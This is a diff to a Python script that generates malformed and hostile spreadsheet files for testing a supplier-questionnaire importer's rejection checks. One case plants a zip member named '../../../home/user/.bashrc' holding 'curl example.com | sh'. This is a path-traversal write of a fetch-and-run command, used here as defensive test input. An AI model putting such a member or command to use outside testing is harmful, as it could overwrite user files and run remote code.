@@ -10,12 +10,15 @@ and try it with the command line:
 
 from __future__ import annotations
 
+import random
 import re
 import struct
 import sys
+import warnings
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
+from functools import partial
 from pathlib import Path
 
 import openpyxl
@@ -48,6 +51,23 @@ CASES: dict[str, tuple[str, str]] = {
     "entities": ("XML with a DTD and entities", "declares a DTD"),
     "oversized": ("a 21 MB file", "limit 20 MB"),
     "empty": ("the workbook as it was sent, nothing filled in", "no answers at all"),
+    # hostile and damaged files (issue 8): each is refused before any reader picks a part, or by its cell
+    "duplicate_sheet_names": ("two sheets named 'Site profile', the second a decoy part",
+                              "lists two sheets named 'Site profile'"),
+    "duplicate_members": ("two zip members named xl/worksheets/sheet3.xml", "two parts named"),
+    "zip_version": ("one flipped byte: the central directory asks for zip version 25.5",
+                    "asks for a feature fldd does not read (zip file version 25.5)"),
+    "hidden_column": ("a hidden column inserted before the Answer column", "column D should be 'Answer'"),
+    "foreign_metadata": ("the hidden metadata of another supplier's workbook copied in",
+                         "but its hidden metadata belongs to a workbook sent to 'Other Supplier Co'"),
+    "earlier_metadata": ("the hidden metadata of another export to the same supplier copied in",
+                         "does not belong to this workbook's hidden metadata"),
+    "error_value": ("the error value #DIV/0! in an answer cell", "holds the error value #DIV/0!"),
+    "huge_styles": ("a styles part of 60,000 formats, 4.5 MB inflated", "part xl/styles.xml would expand to"),
+    "path_traversal": ("an extra member named ../../../home/user/.bashrc", "'../../../home/user/.bashrc', which no"),
+    "macro_project": ("a macro project (xl/vbaProject.bin)", "holds a macro project"),
+    "macro_content_type": ("an .xlsm renamed: the workbook's content type is macro-enabled",
+                           "is a macro-enabled or binary workbook"),
 }
 
 GOOD_ANSWERS = {"pr_workers_total": 120, "gov_policy_exists": "Yes", "fee_any_paid": "No"}
@@ -125,8 +145,61 @@ def _shrink_declared(data: bytes, member: str) -> bytes:
     return bytes(out)
 
 
-def build_corpus(good: Path, empty: Path, folder: Path, secret: str) -> list[Case]:
-    """Every bad case, made from `good` (a filled, valid workbook) and `empty` (as exported)."""
+def _add_members(source: Path, target: Path, extra: dict[str, bytes],
+                 change: Callable[[str, bytes], bytes] = lambda name, data: data) -> Path:
+    """The workbook with extra members appended (a name already there gives a second member of that name)."""
+    with zipfile.ZipFile(source) as zf:
+        members = [(info, zf.read(info.filename)) for info in zf.infolist()]
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about a duplicate name: that is the point
+        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
+            for info, data in members:
+                zf.writestr(info, change(info.filename, data))
+            for name, data in extra.items():
+                zf.writestr(name, data)
+    return target
+
+
+def _part_holding(path: Path, marker: bytes) -> tuple[str, bytes]:
+    """The first member whose bytes hold `marker`, and its bytes."""
+    with zipfile.ZipFile(path) as zf:
+        for name in zf.namelist():
+            data = zf.read(name)
+            if marker in data:
+                return name, data
+    raise KeyError(marker)
+
+
+def _flip_version(data: bytes) -> bytes:
+    """The first central directory entry's 'version needed to extract' set to 25.5 (one byte)."""
+    out = bytearray(data)
+    out[data.find(b"PK\x01\x02") + 6] = 0xFF
+    return bytes(out)
+
+
+def _huge_styles(count: int = 60_000) -> bytes:
+    """A styles part with `count` cell formats that do not compress away (so no ratio guard catches it first)."""
+    rng = random.Random(8)
+    xfs = "".join(f'<xf numFmtId="{rng.randrange(200)}" fontId="{rng.randrange(999)}" fillId="{rng.randrange(99)}" '
+                  f'borderId="{rng.randrange(99)}" xfId="0" applyNumberFormat="1"/>' for _ in range(count))
+    return ('<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/'
+            f'spreadsheetml/2006/main"><cellXfs count="{count}">{xfs}</cellXfs></styleSheet>').encode()
+
+
+def _hide_column_before_answers(wb: openpyxl.Workbook) -> None:
+    """Insert a column at D in a module sheet, hide it, and fill it: the typed answers move to E."""
+    ws = _module_sheet(wb)
+    ws.insert_cols(4)
+    ws.column_dimensions["D"].hidden = True
+    for row in range(2, 8):
+        ws.cell(row=row, column=4).value = "No"
+
+
+def build_corpus(good: Path, empty: Path, folder: Path, secret: str, *, other: Path | None = None,
+                 earlier: Path | None = None) -> list[Case]:
+    """Every bad case, made from `good` (a filled, valid workbook), `empty` (as exported), `other` (exported to
+    another supplier, 'Other Supplier Co', of the same database) and `earlier` (an earlier export to the same
+    supplier). Without `other` and `earlier`, the cases that need them are left out."""
     folder.mkdir(parents=True, exist_ok=True)
     made: dict[str, Path] = {}
 
@@ -140,10 +213,10 @@ def build_corpus(good: Path, empty: Path, folder: Path, secret: str) -> list[Cas
     with zipfile.ZipFile(path("zip_not_workbook"), "w") as zf:
         zf.writestr("answers.txt", "yes, no, yes")
     made["zip_not_workbook"] = path("zip_not_workbook")
-    other = openpyxl.Workbook()
-    other.active.append(["Question", "Answer"])
-    other.active.append(["Does your company have a written policy?", "Yes"])
-    other.save(path("other_tool"))
+    foreign = openpyxl.Workbook()
+    foreign.active.append(["Question", "Answer"])
+    foreign.active.append(["Does your company have a written policy?", "Yes"])
+    foreign.save(path("other_tool"))
     made["other_tool"] = path("other_tool")
     made["unknown_questionnaire"] = _edit(good, path("unknown_questionnaire"),
                                           lambda wb: _set_meta(wb, secret, questionnaire="fldd-nonesuch"))
@@ -180,8 +253,44 @@ def build_corpus(good: Path, empty: Path, folder: Path, secret: str) -> list[Cas
     made["oversized"] = path("oversized")
     made["empty"] = path("empty")
     made["empty"].write_bytes(empty.read_bytes())
-    assert set(made) == set(CASES), set(CASES) ^ set(made)
-    return [Case(name, made[name], *CASES[name]) for name in CASES]
+    _hostile(good, made, path)
+    for name, source in (("foreign_metadata", other), ("earlier_metadata", earlier)):
+        if source is not None:
+            made[name] = _rezip(good, path(name), partial(_swapped, *_part_holding(source, b"supplier_uid")))
+    assert set(made) <= set(CASES) and set(CASES) - set(made) <= {"foreign_metadata", "earlier_metadata"}
+    return [Case(name, made[name], *CASES[name]) for name in CASES if name in made]
+
+
+def _swapped(part: str, replacement: bytes, member: str, data: bytes) -> bytes:
+    return replacement if member == part else data
+
+
+def _hostile(good: Path, made: dict[str, Path], path: Callable[[str], Path]) -> None:
+    """The hostile and damaged files of issue 8."""
+    workbook = zipfile.ZipFile(good).read("xl/workbook.xml")
+    site = re.search(rb'<sheet name="Site profile" [^>]*r:id="(rId\d+)"', workbook).group(1)
+    decoy = re.search(rb'<sheet name="Policy and management" [^>]*r:id="(rId\d+)"', workbook).group(1)
+    made["duplicate_sheet_names"] = _rezip(good, path("duplicate_sheet_names"), lambda name, data: data.replace(
+        b"</sheets>", b'<sheet name="Site profile" sheetId="99" r:id="' + decoy + b'"/></sheets>')
+        if name == "xl/workbook.xml" else data)
+    assert site != decoy
+    sheet, xml = _part_holding(good, b"pr_workers_total")
+    made["duplicate_members"] = _add_members(good, path("duplicate_members"),
+                                             {sheet: xml.replace(b"<v>120</v>", b"<v>9999</v>")})
+    made["zip_version"] = path("zip_version")
+    made["zip_version"].write_bytes(_flip_version(good.read_bytes()))
+    made["hidden_column"] = _edit(good, path("hidden_column"), _hide_column_before_answers)
+    made["error_value"] = _rezip(good, path("error_value"), lambda name, data: re.sub(
+        rb'<c r="D2"[^>]*?(?:/>|>.*?</c>)', b'<c r="D2" t="e"><v>#DIV/0!</v></c>', data, count=1, flags=re.DOTALL)
+        if name == sheet else data)
+    made["huge_styles"] = _rezip(good, path("huge_styles"),
+                                 lambda name, data: _huge_styles() if name == "xl/styles.xml" else data)
+    made["path_traversal"] = _add_members(good, path("path_traversal"),
+                                          {"../../../home/user/.bashrc": b"curl example.com | sh\n"})
+    made["macro_project"] = _add_members(good, path("macro_project"), {"xl/vbaProject.bin": bytes(2048)})
+    made["macro_content_type"] = _rezip(good, path("macro_content_type"), lambda name, data: data.replace(
+        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
+        if name == "[Content_Types].xml" else data)
 
 
 def _put(wb: openpyxl.Workbook, sheet_start: str, ref: str, value: str, *, text: bool = True) -> None:
@@ -204,9 +313,12 @@ def main(argv: list[str]) -> int:
     out.mkdir(parents=True, exist_ok=True)
     ctx = open_context(out / "fldd.sqlite3", user="buyer")
     supplier_id = add_supplier(ctx, "Corpus Supplier Ltd", "MY", goods=["Garments"])
+    earlier = export_workbook(ctx, supplier_id, "fldd-desktop", out / "earlier.xlsx").path
     empty = export_workbook(ctx, supplier_id, "fldd-desktop", out / "sent.xlsx").path
+    other_id = add_supplier(ctx, "Other Supplier Co", "VN", goods=["Garments"])
+    other = export_workbook(ctx, other_id, "fldd-desktop", out / "other.xlsx").path
     good = _fill_good(empty, out / "good.xlsx")
-    cases = build_corpus(good, empty, out / "bad", workbook_secret(ctx))
+    cases = build_corpus(good, empty, out / "bad", workbook_secret(ctx), other=other, earlier=earlier)
     ctx.close()
     for case in cases:
         print(f"{case.path.name:28} {case.about}")
